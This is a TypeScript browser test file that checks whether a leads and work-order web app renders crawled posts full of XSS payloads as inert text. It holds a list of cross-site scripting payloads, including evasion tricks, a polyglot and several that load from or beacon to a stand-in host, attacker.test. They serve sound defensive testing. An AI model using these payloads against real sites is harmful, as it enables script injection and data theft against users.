/**
 * Crawled text is hostile. A lead whose posts, author, title, IP location and link carry a broad
 * set of XSS payloads (in the spirit of OWASP's XSS filter evasion cheat sheet) must run nothing
 * anywhere it is shown (queue, lead page, work order page) and show as the literal text.
 */
import type { Browser, Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { insertLead } from '../helpers/lead-fixtures.js';
import { tempContext, type TempContext } from '../helpers/temp-context.js';
import { closeInOrder, launchBrowser, loginInBrowser } from '../helpers/web-browser.js';
import { createUser, startApp, type RunningApp } from '../helpers/web-app.js';

const P = (tag: string) => `pwn('${tag}')`;
export const XSS_PAYLOADS = [
  `<script>${P('script')}</script>`,
  `<SCRIPT SRC=http://attacker.test/xss.js></SCRIPT>`,
  `<img src=x onerror=${P('img')}>`,
  `<IMG SRC="jav&#x09;ascript:${P('tab')};">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#112;&#119;&#110;&#40;&#49;&#41;>`,
  `<svg onload=${P('svg')}>`,
  `<svg><script>${P('svgscript')}</script></svg>`,
  `<a href="javascript:${P('link')}">点我领取</a>`,
  `<iframe srcdoc="<script>parent.${P('srcdoc')}</script>"></iframe>`,
  `<iframe src="javascript:parent.${P('iframe')}"></iframe>`,
  `<div style="background:url(javascript:${P('cssurl')})">x</div>`,
  `<div style="width: expression(${P('expression')})">x</div>`,
  `<style>@import 'http://attacker.test/x.css'; body{background:url("http://attacker.test/bg.png")}</style>`,
  `<body onload=${P('body')}>`,
  `<input autofocus onfocus=${P('focus')}>`,
  `<details open ontoggle=${P('toggle')}>`,
  `<marquee onstart=${P('marquee')}>`,
  `<video><source onerror="${P('video')}"></video>`,
  `<object data="javascript:${P('object')}"></object><embed src="javascript:${P('embed')}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${P('meta')}">`,
  `<form action="javascript:${P('form')}"><button>提交</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${P('mxss')}>`,
  `<noscript><p title="</noscript><img src=x onerror=${P('noscript')}>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${P('mxss2')}>">`,
  `"><script>${P('attr')}</script>`,
  `'><img src=x onerror=${P('attr2')}>`,
  `&lt;script&gt;${P('entity')}&lt;/script&gt;`,
  `%3Cscript%3E${P('urlenc')}%3C%2Fscript%3E`,
  `\\u003cscript\\u003e${P('unicode')}\\u003c/script\\u003e`,
  `{{constructor.constructor('${P('template')}')()}}`,
  `<img src="http://attacker.test/beacon.png">`,
  `<a href="http://attacker.test/steal" onmouseover="${P('hover')}">悬停</a>`,
  `<base href="http://attacker.test/">`,
  `<link rel=stylesheet href="http://attacker.test/x.css">`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${P('polyglot')}//'>`,
];

let ctx: TempContext;
let app: RunningApp;
let browser: Browser;
let page: Page;
let leadId: number;
const dialogs: string[] = [];
const outside: string[] = [];
const text = `小区门口垃圾成山。\n${XSS_PAYLOADS.join('\n')}\n请尽快处理。`;

beforeAll(async () => {
  ctx = tempContext();
  await createUser(ctx, 'xss-tester', 'verifier');
  leadId = insertLead(ctx.db, {
    urgency: 'urgent',
    score: 1,
    posts: [
      { text, title: `<img src=x onerror=${P('title')}>`, author: `<script>${P('author')}</script>`, ipLocation: `<svg onload=${P('ip')}>`, url: `javascript:${P('url')}` },
      { text: `<b onmouseover=${P('second')}>第二条</b>`, url: `data:text/html,<script>${P('dataurl')}</script>` },
    ],
    // Highlights that cut through the markup must stay text too.
    spans: [{ postIndex: 0, start: 10, end: 20, rule: `<img src=x onerror=${P('rule')}>` }],
  }).leadId;
  ctx.db.prepare('UPDATE leads SET place = ?, summary = ? WHERE id = ?').run(`<img src=x onerror=${P('place')}>`, `<script>${P('summary')}</script>垃圾`, leadId);
  app = await startApp(ctx);
  browser = await launchBrowser(ctx);
  page = await browser.newPage();
  // The trap: any payload that runs calls pwn(); alert/confirm/prompt would open a dialog.
  await page.addInitScript(() => {
    (window as unknown as { __pwned: string[] }).__pwned = [];
    (window as unknown as { pwn: (x: unknown) => void }).pwn = (x) => (window as unknown as { __pwned: string[] }).__pwned.push(String(x));
  });
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  page.on('request', (r) => {
    const url = new URL(r.url());
    if (url.protocol !== 'data:' && url.hostname !== '127.0.0.1') outside.push(r.url());
  });
  await loginInBrowser(page, app.baseUrl, 'xss-tester');
});
afterAll(() => closeInOrder(browser, app, ctx));

const pwned = () => page.evaluate(() => (window as unknown as { __pwned: string[] }).__pwned);

describe('hostile post content', () => {
  it('the queue shows the summary as text', async () => {
    const cell = page.locator('td.summary').first();
    await expect.poll(() => cell.textContent()).toContain(`<script>${P('summary')}</script>`);
    expect(await cell.locator('script, img, svg').count()).toBe(0);
  });

  it('the lead page shows every payload as the literal text and runs nothing', async () => {
    await page.keyboard.press('Enter');
    await page.waitForSelector(`section.lead[data-lead-id="${leadId}"] article.post`);
    const first = page.locator('article.post').first();
    expect(await first.locator('.post-text').textContent()).toBe(text);
    // Only <mark> elements inside post text: no element came from the payloads.
    expect(await page.locator('.post-text *:not(mark)').count()).toBe(0);
    expect(await first.locator('header').textContent()).toContain(`<script>${P('author')}</script>`);
    expect(await first.locator('.post-title').textContent()).toBe(`<img src=x onerror=${P('title')}>`);
    // javascript: and data: links to the "original" are not links at all.
    expect(await page.locator('a.source').count()).toBe(0);
    expect(await page.locator('a[href^="javascript:" i], a[href^="data:" i]').count()).toBe(0);
    expect(await page.locator('.facts').textContent()).toContain(`<img src=x onerror=${P('place')}>`);
    // Interact the way a reviewer does: hover and click the text, select it.
    await first.locator('.post-text').hover();
    await page.locator('article.post').nth(1).locator('.post-text').hover();
    await first.locator('.post-text').click();
    await page.waitForTimeout(300);
    expect(await pwned()).toEqual([]);
  });

  it('edits with payloads show as text in the suggestions and the audit trail', async () => {
    await page.keyboard.press('e');
    await page.fill('#edit-panel input[name=street]', `<svg onload=${P('street')}>`);
    await page.click('#edit-panel button[type=submit]');
    await expect.poll(() => page.locator('.audit').textContent()).toContain(`<svg onload=${P('street')}>`);
    expect(await page.locator('.audit svg, .facts svg').count()).toBe(0);
  });

  it('the work order made from it shows description and posts as text', async () => {
    await page.keyboard.press('c');
    await expect.poll(() => ctx.db.prepare('SELECT number FROM work_orders WHERE lead_id = ?').pluck().get(leadId)).toBeTruthy();
    const number = ctx.db.prepare('SELECT number FROM work_orders WHERE lead_id = ?').pluck().get(leadId) as string;
    await page.goto(`${app.baseUrl}/work-orders/${number}`);
    await page.waitForSelector('.work-order article.post');
    expect(await page.locator('.work-order .post-text').nth(1).textContent()).toBe(text);
    expect(await page.locator('.work-order .post-text *').count()).toBe(0);
    expect(await page.locator('.work-order a[href^="javascript:" i], .work-order a[href^="data:" i]').count()).toBe(0);
    await page.waitForTimeout(300);
  });

  it('nothing ran: no dialog, no trap call, no request to another host', async () => {
    expect(await pwned()).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(outside).toEqual([]);
  });

  it('controls: the trap is live, the payloads are live HTML, and CSP is a second wall', async () => {
    // Without our rendering and CSP (a blank page), the same payloads do run: the checks above can fail.
    const bare = await browser.newPage();
    await bare.setContent(`<script>window.__pwned = []; function pwn(x) { __pwned.push(String(x)); }</script><div>${XSS_PAYLOADS.slice(0, 8).join('')}</div>`);
    await expect.poll(() => bare.evaluate(() => (window as unknown as { __pwned: string[] }).__pwned)).toContain('img');
    await bare.close();
    // In the app, even HTML inserted by mistake would not run inline handlers (CSP without 'unsafe-inline').
    await page.evaluate((html) => {
      const div = document.createElement('div');
      div.innerHTML = html;
      document.body.append(div);
    }, `<img src=x onerror="${P('control')}">`);
    await page.waitForTimeout(300);
    expect(await pwned()).toEqual([]);
  });
});
